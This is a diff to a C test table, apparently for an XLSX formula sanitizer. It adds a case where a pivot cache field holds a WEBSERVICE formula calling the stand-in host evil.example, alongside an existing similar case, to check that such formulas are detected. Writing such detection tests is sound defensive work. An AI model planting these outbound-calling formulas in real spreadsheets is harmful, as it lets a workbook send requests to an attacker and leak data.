@@ -623,6 +623,13 @@ static const struct xrow {
 	  { { "xl/tables/table1.xml", "<table xmlns=\"" S_NS "\" id=\"1\" name=\"T\" ref=\"A1:A2\"><tableColumns count=\"1\"><tableColumn id=\"1\" name=\"C\">"
 	      "<calculatedColumnFormula>_xlfn.WEBSERVICE(\"http://evil.example/\")</calculatedColumnFormula></tableColumn></tableColumns></table>" } },
 	  { "evil.example", "calculatedcolumnformula" }, "tableColumn", "formula" },
+	/* a pivot cache's calculated field keeps its formula in an attribute */
+	{ "pivot-calculated-field",
+	  "<Override PartName=\"/xl/pivotCache/pivotCacheDefinition1.xml\" ContentType=\"" SML "pivotCacheDefinition+xml\"/>",
+	  NULL, NULL, NULL, NULL,
+	  { { "xl/pivotCache/pivotCacheDefinition1.xml", "<pivotCacheDefinition xmlns=\"" S_NS "\"><cacheFields count=\"2\"><cacheField name=\"a\" numFmtId=\"0\"/>"
+	      "<cacheField name=\"b\" numFmtId=\"0\" formula=\"_xlfn.WEBSERVICE(&quot;http://evil.example/&quot;)\"/></cacheFields></pivotCacheDefinition>" } },
+	  { "evil.example", "webservice" }, "cacheField name=\"b\"", "formula" },
 	/* harmless formulas stay, also with a denied name inside a string */
 	{ "safe-formula", NULL, NULL,
 	  "<definedNames><definedName name=\"_xlnm.Print_Area\" localSheetId=\"0\">Sheet1!$A$1:$B$2</definedName></definedNames>",
